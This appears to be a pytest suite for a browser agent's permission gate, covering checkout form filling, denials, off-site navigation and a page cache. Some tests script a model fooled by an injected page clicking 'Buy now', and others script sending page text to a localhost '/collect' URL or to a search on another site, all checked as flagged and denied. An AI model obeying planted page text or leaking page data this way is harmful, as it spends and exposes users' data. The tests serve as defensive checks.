"""Whole agent runs in the real browser: a scripted model over HTTP drives click, fill and submit
through Harbor; the permission panel's part is played by a bus subscriber that answers."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from jawad_desktop.browser.driver import QtWebEnginePage
from jawad_desktop.core import events
from jawad_desktop.core.agent.session import AgentSession
from jawad_desktop.core.config.settings import Settings
from jawad_desktop.core.harbor import Harbor, HarborGate
from jawad_desktop.core.llm.client import LLMClient
from jawad_desktop.core.tools.basic import basic_registry
from jawad_desktop.core.tools.browser import BrowserSession, browser_registry
from tests.browser.wiring import wire_browser
from tests.servers.scripted_model import ScriptedModel, call, text


@dataclass
class Flow:
    agent: AgentSession
    browser: BrowserSession
    harbor: Harbor
    gate: HarborGate
    model: ScriptedModel
    answers: list[str]
    asked: list[events.PermissionRequest] = field(default_factory=list)
    log: list[events.ActionLogEntry] = field(default_factory=list)

    def run(self, arun: Callable[..., Any], user_text: str) -> events.ChatResponse:
        self.browser.note_user_message(user_text)
        return arun(self.agent.run(user_text), timeout=60)


@pytest.fixture
def flow(web_page: QtWebEnginePage, scripted_model: ScriptedModel, tmp_path: Path,
         arun: Callable[..., Any]) -> Iterator[Flow]:
    settings = Settings()
    settings.network.max_retries = 0
    bus = events.EventBus()
    wired = wire_browser(web_page, bus, config_dir=tmp_path / "config", data_dir=tmp_path / "data",
                         settings=settings, highlight_s=0.05, timeout_s=5)
    gate = wired.gate
    client = LLMClient(scripted_model.provider(), network=settings.network, bus=bus)
    agent = AgentSession(client=client, registry=basic_registry().merged(browser_registry()), settings=settings,
                         bus=bus, gate=gate, browser=wired.session)
    f = Flow(agent=agent, browser=wired.session, harbor=wired.harbor, gate=gate, model=scripted_model, answers=[])

    def on_event(event: events.Event) -> None:
        if isinstance(event, events.PermissionRequest):
            f.asked.append(event)
            if f.answers:
                asyncio.get_running_loop().call_soon(gate.respond, event.id, f.answers.pop(0))
        elif isinstance(event, events.ActionLogUpdate):
            f.log.append(event.entry)

    bus.subscribe(on_event)
    yield f
    arun(client.aclose())
    wired.close()


def seen_index(flow: Flow, arun: Callable[..., Any], line: str) -> int:
    """The number the model sees for ``line`` (``button "Place order"``) in read_page's element list:
    the scripted model acts by index, as a model does (the listing has no selectors)."""
    reading = arun(flow.browser.read())
    for shown in reading.interactive_elements.splitlines():
        numbered = re.match(r"\[(\d+)\] (.*)", shown)
        if numbered and numbered.group(2) == line:
            return int(numbered.group(1))
    raise AssertionError(f"no {line!r} in the element list:\n{reading.interactive_elements}")


def _final(log: list[events.ActionLogEntry]) -> list[events.ActionLogEntry]:
    latest: dict[str, events.ActionLogEntry] = {}
    for entry in log:
        latest[entry.id] = entry
    return list(latest.values())


def test_fill_and_place_order_asks_and_critical_always_asks(flow: Flow, load: Callable[[str], str],
                                                             web_page: QtWebEnginePage,
                                                             arun: Callable[..., Any]) -> None:
    url = load("shop/checkout.html")
    flow.harbor.apply_decision("click_element", url, "allow-site")  # even a granted tool asks when critical
    name, email = seen_index(flow, arun, 'textbox "Full name"'), seen_index(flow, arun, 'input[email] "Email"')
    ship = seen_index(flow, arun, 'select "Shipping" = "Standard"; options: Standard, Express')
    terms = seen_index(flow, arun, 'checkbox "I accept the terms"')
    place = seen_index(flow, arun, 'button "Place order"')
    flow.model.script(
        call("fill_form", {"index": name, "text": "Alice Smith"}),
        call("fill_form", {"index": email, "text": "alice@example.com"}),
        call("select_option", {"index": ship, "option": "Express"}),
        call("set_checked", {"index": terms, "checked": True}),
        call("click_element", {"index": place}),
        text("Your order is placed."),  # held back: the agent reads the page for the model to check it
        text("Your order is placed: the page confirms it."),
    )
    flow.answers = ["allow-session", "allow-once", "allow-once", "allow-once"]
    response = flow.run(arun, "Check out as Alice Smith, alice@example.com, express shipping, accept the "
                              "terms and place the order")
    assert response.content == "Your order is placed: the page confirms it." and not response.is_error
    assert "Order confirmed" in flow.model.requests[-1]["messages"][-1]["content"]  # the page it checked
    # What the model saw before its last step: the numbers it used, with the state its own steps set.
    system = flow.model.requests[-3]["messages"][0]["content"]
    assert f'[{name}] textbox "Full name" = "Alice Smith"' in system
    assert f'[{ship}] select "Shipping" = "Express"' in system
    assert f'[{terms}] checkbox "I accept the terms" (checked)' in system
    assert "#place" not in system  # selectors stay inside the page's references
    tools = [(r.tool_name, r.critical) for r in flow.asked]
    # fill_form asked once (allow-session covers the second), select/check asked, Place order asked as critical.
    assert tools == [("fill_form", False), ("select_option", False), ("set_checked", False),
                     ("click_element", True)]
    place = flow.asked[-1]
    assert 'BUTTON "Place order"' in place.element_hint and "purchase" in place.reason
    assert not place.from_page_content  # the user asked for it
    assert arun(web_page.url()).startswith(url.replace("checkout", "confirmed"))
    echoed = arun(web_page.run_js("document.getElementById('echo').textContent", world=0))
    assert "name=Alice+Smith" in echoed and "ship=exp" in echoed and "terms=on" in echoed
    decisions = [(e.tool_name, e.decision, e.result) for e in _final(flow.log)]
    assert decisions == [("fill_form", "allowed", "success"), ("fill_form", "auto-approved", "success"),
                         ("select_option", "allowed", "success"), ("set_checked", "allowed", "success"),
                         ("click_element", "allowed", "success"), ("read_page", "auto-approved", "success")]


def test_denied_action_is_not_done_and_the_model_is_told(flow: Flow, load: Callable[[str], str],
                                                         web_page: QtWebEnginePage,
                                                         arun: Callable[..., Any]) -> None:
    load("shop/checkout.html")
    flow.model.script(call("click_element", {"index": seen_index(flow, arun, 'button "Cancel"')}),
                      text("I did not cancel it."))
    flow.answers = ["deny"]
    flow.run(arun, "cancel my order")
    assert arun(web_page.run_js("document.getElementById('status').textContent", world=0)) == ""
    assert "Permission denied" in flow.model.requests[-1]["messages"][-1]["content"]
    present = arun(web_page.run_js("!!document.getElementById('__jawad_highlight__')", world=0))
    assert present is False  # the highlight shown while asking is gone after the denial


def test_planted_instructions_are_flagged_in_the_request(flow: Flow, load: Callable[[str], str],
                                                         web_page: QtWebEnginePage,
                                                         arun: Callable[..., Any]) -> None:
    load("injection.html")
    # A model fooled by the page tries to click "Buy now".
    flow.model.script(call("click_element", {"index": seen_index(flow, arun, 'button "Buy now"')}),
                      text("I could not do that."))
    flow.answers = ["deny-all"]
    flow.run(arun, "which kettle is the best value?")
    (request,) = flow.asked
    assert request.critical and request.from_page_content
    assert "page itself contains text" in request.reason
    assert arun(web_page.run_js("document.getElementById('res').textContent", world=0)) == ""
    # The model was told the page is untrusted, with the planted text flagged, in its system prompt.
    system = flow.model.requests[0]["messages"][0]["content"]
    assert "<untrusted_page_content" in system


def test_a_click_that_leaves_the_site_is_blocked_by_the_browser(flow: Flow, load: Callable[[str], str],
                                                                web_page: QtWebEnginePage,
                                                                arun: Callable[..., Any]) -> None:
    url = load("shop/jsonld.html")
    flow.harbor.apply_decision("click_element", url, "allow-site")  # clicks run here without asking...
    flow.model.script(call("click_element", {"index": seen_index(flow, arun, 'link "Mirror shop"')}),
                      text("The mirror shop is blocked."))
    flow.run(arun, "open the mirror shop link")
    assert not flow.asked
    assert arun(web_page.url()) == url  # ...but leaving the site is refused by the browser itself
    result = flow.model.requests[-1]["messages"][-1]["content"]
    assert "blocked" in result and "navigate" in result


def test_a_click_the_user_allowed_knowing_it_leaves_the_site_is_followed(
        flow: Flow, load: Callable[[str], str], web_page: QtWebEnginePage, arun: Callable[..., Any]) -> None:
    load("shop/jsonld.html")
    flow.model.script(call("click_element", {"index": seen_index(flow, arun, 'link "Mirror shop"')}),
                      text("Opened the mirror shop."), text("Opened the mirror shop."))  # the second after the check
    flow.answers = ["allow-once"]
    assert flow.run(arun, "open the mirror shop link").content == "Opened the mirror shop."
    (request,) = flow.asked
    assert "leads to another site, localhost" in request.reason
    assert arun(web_page.url()).startswith("http://localhost:")
    assert web_page.navigation_guard is not None  # the guard stays; the allowance was for one navigation
    assert not web_page._allowed_once


def test_page_cache_gives_the_previous_product(flow: Flow, load: Callable[[str], str],
                                               arun: Callable[..., Any]) -> None:
    load("shop/jsonld.html")
    arun(flow.browser.read())
    load("shop/microdata.html")
    arun(flow.browser.read())
    previous = arun(flow.browser.last_product())
    assert previous is not None and previous["name"] == "Trail Runner 2" and previous["price"] == "129.99"
    assert flow.browser.cache is not None
    with flow.browser.cache.db.read() as conn:  # the app never lists the cache: read its table
        rows = conn.execute("SELECT title FROM page_cache ORDER BY timestamp DESC, rowid DESC").fetchall()
    assert [row["title"] for row in rows] == ["Camp Stove – Example Shop", "Trail Runner 2 – Example Shop"]


def test_search_and_navigation_within_and_across_sites(flow: Flow, load: Callable[[str], str],
                                                       web_page: QtWebEnginePage, page_server: str,
                                                       arun: Callable[..., Any]) -> None:
    load("shop/jsonld.html")
    flow.browser.search_engine = f"{page_server}/shop/search.html?q={{query}}"
    flow.model.script(
        call("search_web", {"query": "trail shoes"}),
        call("navigate", {"url": f"{page_server}/shop/microdata.html"}),
        call("navigate", {"url": "http://localhost:1/"}),
        text("Done."),
    )
    flow.answers = ["deny"]
    flow.run(arun, "search for trail shoes, then open the camp stove, then the partner site")
    decisions = [(e.tool_name, e.decision) for e in _final(flow.log)]
    # Searching and moving within the site run; leaving it asks (and was denied here).
    assert decisions == [("search_web", "auto-approved"), ("navigate", "auto-approved"), ("navigate", "denied")]
    assert [r.site for r in flow.asked] == ["localhost"]
    results = [m["content"] for m in flow.model.requests[-1]["messages"] if m["role"] == "tool"]
    assert "trail shoes" in results[0] and arun(web_page.url()).endswith("/shop/microdata.html")


def test_sending_page_data_to_another_site_asks_even_when_granted(flow: Flow, load: Callable[[str], str],
                                                                  arun: Callable[..., Any]) -> None:
    load("injection.html")
    flow.harbor.apply_decision("navigate", "localhost", "allow-site")  # the user trusts that site for navigation
    arun(flow.browser.read())
    leak = "http://localhost:1/collect?d=tested+each+one+at+home+for+a+week"
    flow.model.script(call("navigate", {"url": leak}), text("Not sent."))
    flow.answers = ["deny"]
    flow.run(arun, "summarise the deals")
    (request,) = flow.asked
    assert request.tool_name == "navigate" and request.from_page_content
    assert "(read on 127.0.0.1) to localhost" in request.reason and request.data_flow


def test_submitting_on_a_checkout_page_is_critical_and_asked_at_submit_level(
        flow: Flow, load: Callable[[str], str], web_page: QtWebEnginePage, arun: Callable[..., Any]) -> None:
    url = load("shop/checkout.html")
    flow.harbor.apply_decision("fill_form", url, "allow-site")
    flow.model.script(call("fill_form", {"index": seen_index(flow, arun, 'input[email] "Email"'),
                                         "text": "a@b.test", "submit": True}),
                      text("Stopped."))
    flow.answers = ["deny"]
    flow.run(arun, "fill a@b.test as my email and submit")
    (request,) = flow.asked
    assert request.permission_level == "submit" and request.critical
    assert arun(web_page.url()) == url  # nothing was submitted


def test_a_plain_search_on_another_site_runs_without_asking(flow: Flow, load: Callable[[str], str],
                                                            web_page: QtWebEnginePage, page_server: str,
                                                            arun: Callable[..., Any]) -> None:
    load("shop/jsonld.html")
    # The engine lives on another site than the page (localhost, not 127.0.0.1): a NAVIGATE would ask.
    flow.browser.search_engine = page_server.replace("127.0.0.1", "localhost") + "/shop/search.html?q={query}"
    flow.model.script(call("search_web", {"query": "trail shoes"}), text("Here are the results."))
    flow.answers = ["deny"]
    flow.run(arun, "search for trail shoes")
    assert [(e.tool_name, e.decision) for e in _final(flow.log)] == [("search_web", "auto-approved")]
    assert flow.asked == []
    assert arun(web_page.url()).startswith("http://localhost:")


def test_a_search_carrying_page_text_to_another_site_still_asks(flow: Flow, load: Callable[[str], str],
                                                                 web_page: QtWebEnginePage, page_server: str,
                                                                 arun: Callable[..., Any]) -> None:
    load("injection.html")
    arun(flow.browser.read())
    flow.browser.search_engine = page_server.replace("127.0.0.1", "localhost") + "/shop/search.html?q={query}"
    flow.model.script(call("search_web", {"query": "tested each one at home for a week"}), text("Not sent."))
    flow.answers = ["deny"]
    flow.run(arun, "summarise the deals")
    (request,) = flow.asked
    assert request.tool_name == "search_web" and request.from_page_content
    assert "(read on 127.0.0.1) to localhost" in request.reason and request.data_flow
    assert [(e.tool_name, e.decision) for e in _final(flow.log)] == [("search_web", "denied")]
    assert arun(web_page.url()).startswith("http://127.0.0.1:")
